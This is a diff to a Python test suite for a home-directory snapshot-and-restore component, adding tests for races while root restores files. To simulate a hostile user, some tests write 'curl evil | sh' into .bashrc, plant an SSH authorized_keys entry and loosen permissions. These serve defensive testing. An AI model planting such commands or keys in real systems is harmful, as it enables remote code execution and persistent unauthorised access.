@@ -37,8 +37,9 @@ def tree(path: Path) -> list[tuple]:
         st = entry.lstat()
         what = (os.readlink(entry) if entry.is_symlink() else
                 entry.read_bytes() if stat.S_ISREG(st.st_mode) else None)
+        mtime = None if stat.S_ISDIR(st.st_mode) else st.st_mtime_ns  # a directory's moves
         found.append((str(entry.relative_to(path)), stat.S_IFMT(st.st_mode),
-                      stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid, what))
+                      stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid, what, mtime))
     return found
 
 
@@ -186,15 +187,15 @@ def test_what_another_process_writes_meanwhile_goes_too(a_home, monkeypatch):
     is never taken for part of the home)."""
     copy = home.HomeCopy(str(a_home), UID)
     as_user("touch junk", a_home)
-    removed, written = home.remove_paths, []
+    removed, written = home.HomeCopy.remove, []
 
-    def then_a_key(at, paths):
-        removed(at, paths)
+    def then_a_key(self, at, paths):
+        removed(self, at, paths)
         if not written:
             as_user("echo key > .ssh/authorized_keys", a_home)
             written.append(True)
 
-    monkeypatch.setattr(home, "remove_paths", then_a_key)
+    monkeypatch.setattr(home.HomeCopy, "remove", then_a_key)
     said = copy.put_back()
     assert not (a_home / ".ssh" / "authorized_keys").exists(), said
     assert not copy.trouble, copy.trouble
@@ -258,5 +259,67 @@ def test_the_runners_files_moved_away_stop_the_put_back(a_home):
     copy = home.HomeCopy(str(a_home), UID, [str(out)])
     as_user("mv out out.old && mkdir out && echo forged > out/p1.log", a_home)
     assert copy.put_back() == []
-    assert "was moved or replaced" in copy.trouble, copy.trouble
+    assert "was moved or removed" in copy.trouble, copy.trouble
     assert (a_home / "out.old" / "p1.log").read_text() == "root's log\n"
+
+
+def test_what_is_written_after_roots_work_is_not_taken_for_the_home(a_home, monkeypatch):
+    """A write just after root made entries again (a .bashrc, the home's mode), before
+    it looked at the home once more: that look compares with the copy itself, so the
+    write goes in the same put_back, and a later put_back still finds the copy."""
+    copy = home.HomeCopy(str(a_home), UID)
+    before = tree(a_home)
+    as_user("rm fifo", a_home)
+    made, written = home.HomeCopy.make_again, []
+
+    def then_written(self, at, paths):
+        failed = made(self, at, paths)
+        if not written:
+            as_user("echo 'curl evil | sh' > .bashrc && chmod 777 . d", a_home)
+            written.append(True)
+        return failed
+
+    monkeypatch.setattr(home.HomeCopy, "make_again", then_written)
+    copy.put_back()
+    assert not copy.trouble, copy.trouble
+    assert tree(a_home) == before and stat.S_IMODE(a_home.stat().st_mode) == 0o755
+    monkeypatch.undo()
+    as_user("echo 'curl evil | sh' > .bashrc", a_home)
+    assert copy.put_back() == [f"{a_home}/.bashrc (changed: put back)"]
+    assert tree(a_home) == before
+
+
+def test_the_runners_files_renamed_while_root_works_are_not_removed(a_home, monkeypatch):
+    """The user renames the runner's directory (root's files in it) to a new name just
+    as root lists the home: that name is new, but root does not remove what it holds,
+    and the check is told."""
+    out = a_home / "out"
+    (out / "p1.log").write_text("root's log\n")
+    copy = home.HomeCopy(str(a_home), UID, [str(out)])
+    listed = home.listing
+
+    def renamed_first(at, skip):
+        if out.exists():
+            as_user("mv out renamed", a_home)
+        return listed(at, skip)
+
+    monkeypatch.setattr(home, "listing", renamed_first)
+    copy.put_back()
+    assert "was moved or removed" in copy.trouble, copy.trouble
+    assert (a_home / "renamed" / "p1.log").read_text() == "root's log\n"
+
+
+def test_a_socket_gone_or_a_file_without_a_copy_is_no_trouble(a_home):
+    """A program's socket in the home that went with it is its program's to make
+    again (not looked at); a file that could not be copied and then changed goes,
+    said so, and is looked for no more."""
+    as_user(f"{VENV_PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"agent\")'",
+            a_home)
+    copy = home.HomeCopy(str(a_home), UID)
+    copy.copy[".bashrc"] = copy.copy[".bashrc"]._replace(data=None)  # as a lease leaves it
+    as_user("rm agent && echo changed > .bashrc", a_home)
+    said = copy.put_back()
+    assert not copy.trouble, copy.trouble
+    assert said == [f"{a_home}/.bashrc (changed: removed, no copy was kept of it)"], said
+    assert not (a_home / ".bashrc").exists()
+    assert copy.put_back() == [] and not copy.trouble
